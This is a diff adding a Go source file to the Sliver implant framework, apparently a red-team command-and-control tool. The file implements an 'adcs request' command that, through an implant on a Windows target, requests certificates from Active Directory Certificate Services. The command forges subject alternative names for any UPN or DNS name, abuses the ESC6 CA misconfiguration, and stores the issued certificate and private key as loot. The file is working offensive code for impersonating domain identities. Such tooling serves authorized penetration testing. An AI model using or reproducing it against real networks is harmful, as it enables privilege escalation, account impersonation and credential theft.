@@ -0,0 +1,293 @@
+package adcs
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"crypto"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/command/loot"
+	"github.com/bishopfox/sliver/client/console"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+var (
+	oidSubjectAltName = asn1.ObjectIdentifier{2, 5, 29, 17}
+	oidUPN            = asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 20, 2, 3}
+)
+
+// AdcsRequestCmd - Request a certificate from a CA's web enrollment, the key
+// never leaves the client
+func AdcsRequestCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	if !isWindowsTarget(con) {
+		return
+	}
+	ca := ctx.Flags.String("ca")
+	template := ctx.Flags.String("template")
+	if ca == "" || template == "" {
+		con.PrintErrorf("--ca and --template are required\n")
+		return
+	}
+	upn := ctx.Flags.String("upn")
+	dns := ctx.Flags.String("dns")
+	subject := ctx.Flags.String("subject")
+	if subject == "" {
+		subject = commonName(upn, dns, targetUsername(con))
+	}
+	save := ctx.Flags.String("save")
+
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		con.PrintErrorf("Failed to generate key: %s\n", err)
+		return
+	}
+	csr, err := createCSR(key, subject, upn, dns)
+	if err != nil {
+		con.PrintErrorf("Failed to create csr: %s\n", err)
+		return
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Requesting a %s certificate from %s ...", template, ca), ctrl)
+	request, err := con.Rpc.AdcsRequest(context.Background(), &sliverpb.AdcsRequestReq{
+		CA:         ca,
+		Template:   template,
+		CSR:        csr,
+		Attributes: sanAttributes(upn, dns),
+		HTTPS:      ctx.Flags.Bool("https"),
+		Request:    con.ActiveTarget.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if request.Response != nil && request.Response.Async {
+		con.AddBeaconCallback(request.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, request)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintAdcsRequest(request, key, template, save, con)
+		})
+		con.PrintAsyncResponse(request.Response)
+	} else {
+		PrintAdcsRequest(request, key, template, save, con)
+	}
+}
+
+// PrintAdcsRequest - Print the issued certificate and save it with its key as a
+// credential, or the disposition if it was not issued
+func PrintAdcsRequest(request *sliverpb.AdcsRequest, key crypto.Signer, template string, save string, con *console.SliverConsoleClient) {
+	if request.Response != nil && request.Response.Err != "" {
+		con.PrintResponseErr(request.Response)
+		return
+	}
+	if len(request.Certificate) == 0 {
+		con.PrintWarnf("Request %d was not issued: %s\n", request.RequestID, request.Disposition)
+		return
+	}
+	block, _ := pem.Decode(request.Certificate)
+	if block == nil {
+		con.PrintErrorf("Failed to decode the certificate of request %d\n", request.RequestID)
+		return
+	}
+	cert, err := x509.ParseCertificate(block.Bytes)
+	if err != nil {
+		con.PrintErrorf("Failed to parse the certificate of request %d: %s\n", request.RequestID, err)
+		return
+	}
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		con.PrintErrorf("Failed to encode key: %s\n", err)
+		return
+	}
+	bundle := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: cert.Raw})
+	bundle = append(bundle, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der})...)
+
+	identities := append(certificateUPNs(cert), cert.DNSNames...)
+	if len(identities) == 0 {
+		identities = append(identities, cert.Subject.CommonName)
+	}
+	con.PrintSuccessf("Request %d issued a certificate for %s\n", request.RequestID, strings.Join(identities, ", "))
+	con.Printf("    Subject: %s\n", cert.Subject)
+	con.Printf("     Issuer: %s\n", cert.Issuer)
+	con.Printf("     Serial: %x\n", cert.SerialNumber)
+	con.Printf("  Not After: %s\n", cert.NotAfter)
+
+	name := fmt.Sprintf("adcs %s (%s)", template, identities[0])
+	fileName := strings.NewReplacer("@", "_", "\\", "_", "/", "_").Replace(identities[0]) + ".pem"
+	err = loot.AddLootFile(con.Rpc, name, fileName, bundle, true)
+	if err != nil {
+		con.PrintErrorf("Failed to save certificate as loot: %s\n", err)
+	} else {
+		con.PrintInfof("Certificate and key saved as loot '%s'\n", name)
+	}
+	if save != "" {
+		err = os.WriteFile(save, bundle, 0600)
+		if err != nil {
+			con.PrintErrorf("Failed to write %s: %s\n", save, err)
+			return
+		}
+		con.PrintInfof("Certificate and key written to %s\n", save)
+	}
+}
+
+// createCSR - A PEM encoded CSR, the UPN and DNS name are requested as subject
+// alternative names for templates that let the enrollee supply the subject
+func createCSR(key crypto.Signer, subject string, upn string, dns string) ([]byte, error) {
+	template := &x509.CertificateRequest{Subject: pkix.Name{CommonName: subject}}
+	if upn != "" || dns != "" {
+		san, err := marshalSAN(upn, dns)
+		if err != nil {
+			return nil, err
+		}
+		template.ExtraExtensions = []pkix.Extension{{Id: oidSubjectAltName, Value: san}}
+	}
+	der, err := x509.CreateCertificateRequest(rand.Reader, template, key)
+	if err != nil {
+		return nil, err
+	}
+	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), nil
+}
+
+// marshalSAN - GeneralNames with the UPN as an otherName and the DNS name as a dNSName
+func marshalSAN(upn string, dns string) ([]byte, error) {
+	names := []asn1.RawValue{}
+	if upn != "" {
+		typeID, err := asn1.Marshal(oidUPN)
+		if err != nil {
+			return nil, err
+		}
+		utf8, err := asn1.MarshalWithParams(upn, "utf8")
+		if err != nil {
+			return nil, err
+		}
+		value, err := asn1.Marshal(asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, IsCompound: true, Bytes: utf8})
+		if err != nil {
+			return nil, err
+		}
+		names = append(names, asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, IsCompound: true, Bytes: append(typeID, value...)})
+	}
+	if dns != "" {
+		names = append(names, asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 2, Bytes: []byte(dns)})
+	}
+	return asn1.Marshal(names)
+}
+
+// certificateUPNs - The UPNs in a certificate's subject alternative names
+func certificateUPNs(cert *x509.Certificate) []string {
+	upns := []string{}
+	for _, ext := range cert.Extensions {
+		if !ext.Id.Equal(oidSubjectAltName) {
+			continue
+		}
+		names := []asn1.RawValue{}
+		if _, err := asn1.Unmarshal(ext.Value, &names); err != nil {
+			continue
+		}
+		for _, name := range names {
+			if name.Class != asn1.ClassContextSpecific || name.Tag != 0 {
+				continue
+			}
+			upn, err := parseUPN(name.Bytes)
+			if err == nil {
+				upns = append(upns, upn)
+			}
+		}
+	}
+	return upns
+}
+
+func parseUPN(otherName []byte) (string, error) {
+	typeID := asn1.ObjectIdentifier{}
+	rest, err := asn1.Unmarshal(otherName, &typeID)
+	if err != nil {
+		return "", err
+	}
+	if !typeID.Equal(oidUPN) {
+		return "", errors.New("not a upn")
+	}
+	value := asn1.RawValue{}
+	if _, err := asn1.Unmarshal(rest, &value); err != nil {
+		return "", err
+	}
+	upn := ""
+	if _, err := asn1.Unmarshal(value.Bytes, &upn); err != nil {
+		return "", err
+	}
+	return upn, nil
+}
+
+// sanAttributes - The request attributes CAs with EDITF_ATTRIBUTESUBJECTALTNAME2
+// add as subject alternative names (ESC6)
+func sanAttributes(upn string, dns string) string {
+	names := []string{}
+	if upn != "" {
+		names = append(names, "upn="+upn)
+	}
+	if dns != "" {
+		names = append(names, "dns="+dns)
+	}
+	if len(names) == 0 {
+		return ""
+	}
+	return "SAN:" + strings.Join(names, "&")
+}
+
+// commonName - The requested identity, or the target's user
+func commonName(upn string, dns string, username string) string {
+	switch {
+	case upn != "":
+		return strings.Split(upn, "@")[0]
+	case dns != "":
+		return strings.Split(dns, ".")[0]
+	case strings.Contains(username, "\\"):
+		return username[strings.LastIndex(username, "\\")+1:]
+	case username != "":
+		return username
+	}
+	return "User"
+}
+
+func targetUsername(con *console.SliverConsoleClient) string {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session != nil {
+		return session.Username
+	}
+	if beacon != nil {
+		return beacon.Username
+	}
+	return ""
+}